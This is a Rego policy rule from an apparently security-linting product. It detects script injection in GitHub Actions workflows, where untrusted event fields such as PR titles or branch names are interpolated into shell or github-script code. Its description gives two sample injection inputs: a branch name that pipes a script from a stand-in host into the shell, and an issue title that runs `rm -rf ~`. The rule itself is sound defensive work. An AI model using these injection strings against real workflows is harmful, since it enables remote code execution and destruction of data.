# METADATA
# title: Scripts do not contain untrusted text
# description: >-
#   `${{ … }}` is replaced before the shell reads the script. A branch named `$(curl evil.sh|sh)` or an issue titled `";
#   rm -rf ~ #` then becomes code, which runs with the token and the secrets of the job.
# related_resources:
#   - ref: https://docs.github.com/en/actions/concepts/security/script-injections
#   - ref: https://securitylab.github.com/resources/github-actions-untrusted-input/
# custom:
#   severity: error
#   target: file
#   product_only: true
#   files:
#     - .github/workflows/*.yml
#     - .github/workflows/*.yaml
#     - "**/action.yml"
#     - "**/action.yaml"
#   help: >-
#     Pass the value through `env:` and read the quoted variable in the script: `env: {TITLE: "${{ … }}"}`, then
#     `"$TITLE"`
package purlin.rules.workflow.no_script_injection

import data.purlin.lib.paths
import data.purlin.lib.shape
import data.purlin.lib.workflow

report contains {
	"msg": sprintf("the script contains %s, which anybody can set", [context]),
	"at": {"path": input.file.path, "index": object.get(input.file, "index", 0), "pointer": script.at, "find": context},
	"key": [script.job_id, context],
	"help": help(script, context),
} if {
	some script in scripts
	some expression in workflow.expressions(script.text)
	some context in regex.find_n(`[a-z_][a-z0-9_.*\[\]-]*`, yields(expression), -1)
	regex.match(untrusted, context)
	paths.product(input.file.path)
}

scripts contains {"at": array.concat(entry.at, ["run"]), "job_id": entry.job_id, "text": entry.step.run, "kind": "shell"} if {
	some entry in workflow.steps
	contains(shape.text(entry.step.run), "${{")
}

# Expressions in the JavaScript of actions/github-script are replaced in the same way.
scripts contains {"at": array.concat(entry.at, ["with", "script"]), "job_id": entry.job_id, "text": text, "kind": "javascript"} if {
	some entry in workflow.steps
	lower(workflow.action(entry.step.uses)) == "actions/github-script"
	text := shape.text(entry.step["with"].script)
	contains(text, "${{")
}

# What GitHub's Security Lab lists, and the fields of a workflow_run that carry the same texts.
untrusted := sprintf(`^github\.(head_ref|event\.(%s))$`, [concat("|", [
	`(issue|pull_request|discussion)\.(title|body)`,
	`(comment|review|review_comment)\.body`,
	`pages(\.\*|\[[0-9]+\])\.page_name`,
	`(commits(\.\*|\[[0-9]+\])|head_commit|workflow_run\.head_commit)\.(message|author\.(email|name))`,
	`pull_request\.head\.(ref|label|repo\.default_branch)`,
	`workflow_run\.(head_branch|display_title|pull_requests(\.\*|\[[0-9]+\])\.head\.ref)`,
])])

# The parts of an expression that can become its value, in lower case, since names are not case-sensitive. Comparisons,
# tests by a function and the left side of `&&` only choose between values; a literal comes from the author.
yields(expression) := without_choices if {
	without_literals := regex.replace(lower(expression), `'([^']|'')*'`, "''")
	without_tests := regex.replace(without_literals, `(contains|startswith|endswith|hashfiles)[ \t\n]*\([^()]*\)`, "true")
	without_left := regex.replace(without_tests, `[a-z_][a-z0-9_.*\[\]-]*[ \t\n]*(==|!=)`, "==")
	without_right := regex.replace(without_left, `(==|!=)[ \t\n]*[a-z_][a-z0-9_.*\[\]-]*`, "==")
	without_choices := regex.replace(without_right, `[a-z_][a-z0-9_.*\[\]-]*[ \t\n]*&&`, "&&")
}

help(script, context) := sprintf("Set `env: {%s: \"${{ %s }}\"}` on the step, and use \"$%s\" in the script", [name, context, name]) if {
	script.kind == "shell"
	name := variable(context)
}

help(script, context) := sprintf("Set `env: {%s: \"${{ %s }}\"}` on the step, and use process.env.%s in the script", [name, context, name]) if {
	script.kind == "javascript"
	name := variable(context)
}

# `HEAD_REF` of `github.head_ref`: the last word, with the one before it.
variable(context) := upper(concat("_", array.slice(words, count(words) - 2, count(words)))) if {
	words := regex.find_n(`[a-z]+`, trim_prefix(context, "github."), -1)
}
